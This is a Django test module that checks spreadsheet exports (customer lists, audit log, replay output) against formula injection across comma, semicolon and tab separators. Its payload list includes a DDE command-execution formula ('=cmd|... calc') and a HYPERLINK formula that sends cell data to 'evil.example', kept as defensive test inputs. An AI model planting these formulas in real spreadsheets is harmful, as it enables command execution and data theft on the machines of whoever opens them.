"""B8, formulas in spreadsheets: no cell of any file that the desk writes is computed, whatever it is opened with, and an import gives the text back.

Precedents: CVE-2019-14749, CVE-2024-27756, CVE-2025-61873. `tests/desk/transfer/test_cells.py` holds the guard by itself; here are the files as they leave:
customers' (three kinds, three separators), the audit log's, and the cases of a replay.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from parola.desk.accounts import audit
from parola.desk.accounts.models import Brand, Membership, Organization, Person
from parola.desk.agreements import operations as agreements
from parola.desk.agreements.models import Contract
from parola.desk.transfer.columns import Kind
from tests.attacks.hostile import SHARED
from tests.cli.test_replay import AGREEMENT, MAPPING, run
from tests.desk import world as worlds
from tests.desk.world import MONDAY, World
from tests.web.conftest import Reader

OURS = [
    "=1+1", "+1+1", "-2+3", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\u00a0=1", "\u3000=1", "'=1+1", "''=1", '"=1"', "a,=1+1", "a;-1+1",
    "a\t=1+1", 'a"\n=1+1', "\t=1", "\r=1", "\n@x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+971501234567", "=1;2",
]  # fmt: skip
THEIRS = json.loads((SHARED / "csv_cells.json").read_text("utf-8")) if (SHARED / "csv_cells.json").exists() else []
ATTACKS = sorted({*OURS, *THEIRS})
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t"}
COMPUTED = tuple("=+-@＝＋－＠\t\r\n")
SEPARATE = pytest.mark.parametrize("separator", SEPARATORS)
PLACE = "/console/settings/transfer/"


@pytest.fixture
def browser(world: World, reader: Reader) -> Client:
    return reader(worlds.posted("mia", world.credenti, "manager"))


def computed(text: str) -> list[str]:
    """The cells that a spreadsheet would compute, by whichever separator it opens the file."""
    found = []
    for opened in SEPARATORS.values():
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=opened):
            found += [cell for cell in row if cell.strip() and cell.lstrip(" \u00a0\u3000").startswith(COMPUTED)]
    return found


def plain(attack: str) -> str:
    """As a field of one line keeps it."""
    return " ".join(attack.split())


@pytest.fixture
def hostile(world: World) -> World:
    """Customers whose every text is an attack, each a contract of its own."""
    for number, attack in enumerate(ATTACKS):
        there = Organization.objects.create(name=f"{plain(attack)} {number}", language="es", timezone="Europe/Madrid")
        somebody = worlds.person(f"p{number}")
        Person.objects.filter(pk=somebody.pk).update(name=plain(attack))
        Membership.objects.create(person=somebody, organization=there)
        made = agreements.sign(
            organization=there, brand=world.credenti, plan="basic", first_day=date(2026, 1, 1), timezone="Europe/Madrid", now=MONDAY
        )  # fmt: skip
        Contract.objects.filter(pk=made.pk).update(note=attack.strip(), number=f"{plain(attack)} {number}")
    return world


def exported(browser: Client, kind: Kind, separator: str) -> str:
    answer = browser.get(f"{PLACE}{kind}.csv", {"separator": separator})
    assert answer.status_code == 200
    return answer.content.decode("utf-8-sig")


@SEPARATE
def test_no_cell_of_an_export_is_computed_and_an_import_finds_nothing_to_change(
    hostile: World, browser: Client, separator: str
) -> None:
    for kind in Kind:
        text = exported(browser, kind, separator)
        assert text.count("\r\n") > len(ATTACKS)
        assert computed(text) == [], kind
        file = SimpleUploadedFile("customers.csv", text.encode())
        shown: Any = browser.post(f"{PLACE}look/", {"file": file})
        plan = shown.context["plan"]
        assert (plan.findings, plan.steps) == ([], []), kind
        assert plan.same >= len(ATTACKS)


def changed(name: str, now: Any = MONDAY) -> None:
    """The audit log, with that text in every place where there may be one."""
    brand = Brand.objects.get(slug="credenti")
    fields: dict[str, audit.Plain] = {"name": name, "languages": [name, name]}
    audit.record(by=None, brand=brand, matter="team", key=name[:64], before={"name": "a"}, after=fields, now=now)


def test_no_cell_of_the_audit_log_is_computed(world: World, reader: Reader) -> None:
    for attack in ATTACKS:
        changed(attack)
    Brand.objects.filter(pk=world.credenti.pk).update(name="=Credenti")
    Person.objects.filter(pk=world.root.pk).update(name="@root")
    audit.record(by=world.root, brand=world.credenti, matter="=matter", key="+key", before=None, after={"=field": "-1+1"}, now=MONDAY)  # fmt: skip
    text = reader(world.root).get("/console/settings/changes.csv").content.decode("utf-8-sig")
    assert text.count("cmd|") >= 1
    assert computed(text) == []


def test_no_case_of_a_replay_is_computed(tmp_path: Path) -> None:
    """Cases are called as the log of another desk calls them."""
    with (tmp_path / "log.csv").open("w", newline="", encoding="utf-8") as file:
        log = csv.writer(file)
        log.writerow(["number", "opened", "priority", "answered", "due", "kept"])
        log.writerows([attack, "2026-06-01 10:00", "P1", "", "2026-06-01 15:00", "no"] for attack in ATTACKS)
    (tmp_path / "test-mapping.yaml").write_text(MAPPING)
    (tmp_path / "test.yaml").write_text(AGREEMENT)
    assert run(tmp_path, "--disagreements", str(tmp_path / "out.csv")).exit_code == 0
    text = (tmp_path / "out.csv").read_bytes().decode()
    assert len(list(csv.reader(io.StringIO(text, newline="")))) > len(ATTACKS)
    assert computed(text) == []


@SEPARATE
def test_numbers_and_dates_stay_what_they_are(world: World, browser: Client, separator: str) -> None:
    Contract.objects.update(number="4711", note="1000.50")
    (row,) = csv.DictReader(
        io.StringIO(exported(browser, Kind.CONTRACTS, separator), newline=""), delimiter=SEPARATORS[separator]
    )
    assert (row["number"], row["note"], row["first day"]) == ("4711", "1000.50", "2026-01-01")
